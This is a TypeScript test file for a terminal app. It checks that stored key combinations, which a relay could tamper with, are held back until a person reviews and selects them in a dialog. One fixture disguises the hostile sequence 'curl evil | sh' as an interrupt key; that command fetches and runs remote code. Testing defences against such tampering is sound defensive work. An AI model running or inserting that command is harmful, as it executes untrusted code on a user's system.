// @vitest-environment happy-dom
import { afterEach, beforeEach, describe, expect, test } from "vitest";

import { Scope } from "../../src/ui/base/scope";
import { loadPreferences, savePreferences, toSettings } from "../../src/ui/base/preferences";
import { Store } from "../../src/ui/base/store";
import { FakeSession } from "../../dev/fake_session";
import { type Combo, DEFAULT_COMBOS } from "../../src/ui/keys/combos";
import { CombosSync } from "../../src/ui/keys/combos_sync";
import { reviewCombos } from "../../src/ui/sheets/review_sheet";
import { type AppState, firstState } from "../../src/ui/state";

const OWN = { id: "own-1", label: "Status", sequence: "git status<Enter>" };
const POISONED = { id: "interrupt", label: "^C", sequence: "curl evil | sh<Enter>" };

let scope: Scope;
let session: FakeSession;
let store: Store<AppState>;
let asked: (readonly Combo[])[];

function begin(decide: (combos: readonly Combo[]) => readonly Combo[] | null): void {
  scope?.end();
  scope = new Scope();
  session = new FakeSession();
  asked = [];
  store = new Store(firstState(session.connection, [], loadPreferences(localStorage), "dark"));
  new CombosSync(session, store, localStorage, scope, async (combos) => {
    asked.push(combos);
    return decide(combos);
  });
  savePreferences(localStorage, store.state.preferences);
}

const settled = async (): Promise<void> => new Promise((resolve) => setTimeout(resolve));

beforeEach(() => {
  localStorage.clear();
  localStorage.setItem("mobifai.preferences", JSON.stringify({ fontSize: 18, combos: [...DEFAULT_COMBOS, OWN, POISONED] }));
});
afterEach(() => {
  scope.end();
  document.body.replaceChildren();
});

describe("combinations of an earlier version, which a relay could change", () => {
  test("type nothing before the person has selected them", async () => {
    begin(() => null);
    await settled();
    expect(asked).toEqual([[OWN, POISONED]]);
    expect(store.state.combos).toEqual(DEFAULT_COMBOS);
    expect(session.calls.filter(([call]) => call === "putOwnKeys")).toEqual([]);
    expect(store.state.preferences.fontSize).toBe(18);
  });

  test("are reviewed again on the next load, when nothing was decided", async () => {
    begin(() => null);
    await settled();
    begin(() => null);
    await settled();
    expect(asked).toEqual([[OWN, POISONED]]);
  });

  test("are kept when they were selected, and reviewed once", async () => {
    begin(() => [OWN]);
    await settled();
    expect(store.state.combos).toEqual([...DEFAULT_COMBOS, OWN]);
    begin(() => []);
    await settled();
    expect(asked).toEqual([]);
    expect(JSON.stringify(localStorage)).not.toContain("evil");
  });

  test("are not reviewed when they are the default ones", async () => {
    localStorage.setItem("mobifai.preferences", JSON.stringify({ combos: DEFAULT_COMBOS }));
    begin(() => null);
    await settled();
    expect(asked).toEqual([]);
  });

  test("wait until the agent's list is known", async () => {
    begin(() => null);
    await settled();
    session.ownKeys = { list: null, isSettled: false };
    asked = [];
    new CombosSync(session, store, localStorage, scope, async (combos) => (asked.push(combos), null));
    await settled();
    expect(asked).toEqual([]);
    session.emit("ownKeys", { list: [OWN], isSettled: true });
    await settled();
    expect(asked).toEqual([[POISONED]]);
  });
});

describe("their review", () => {
  const button = (name: string): HTMLButtonElement => [...document.querySelectorAll("button")].find((one) => one.textContent === name)!;

  test("shows each in full, and none is selected beforehand", async () => {
    const decided = reviewCombos([OWN, POISONED]);
    expect([...document.querySelectorAll("code")].map((code) => code.textContent)).toEqual([OWN.sequence, POISONED.sequence]);
    const boxes = [...document.querySelectorAll<HTMLInputElement>("input[type=checkbox]")];
    expect(boxes.map(({ checked }) => checked)).toEqual([false, false]);
    boxes[0]!.checked = true;
    document.querySelector("form")!.dispatchEvent(new Event("submit"));
    document.querySelector("dialog")!.close();
    expect(await decided).toEqual([OWN]);
  });

  test("removes all of them, or decides nothing when it is closed", async () => {
    const removed = reviewCombos([OWN]);
    button("Remove all").click();
    expect(await removed).toEqual([]);
    const open = reviewCombos([OWN]);
    document.querySelector("dialog")!.close();
    expect(await open).toBeNull();
  });
});

test("the settings for the relay contain no combination", () => {
  expect(toSettings(loadPreferences(localStorage))).toEqual({ theme: "auto", fontSize: 18, page: { palette: "auto", scheme: "system" } });
});
